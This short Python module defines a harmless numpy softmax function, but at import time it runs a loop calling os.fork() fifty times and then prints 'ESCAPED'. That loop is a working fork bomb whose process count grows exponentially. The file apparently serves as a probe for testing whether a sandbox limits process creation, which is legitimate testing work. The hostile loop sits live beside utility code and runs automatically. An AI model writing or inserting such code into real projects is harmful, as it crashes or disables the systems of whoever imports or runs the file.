"""Forks for ever, if it can fork at all."""

import numpy as np
import os

try:
    for _ in range(50):
        os.fork()
    print("ESCAPED")
except BaseException:
    pass


def softmax(x):
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)
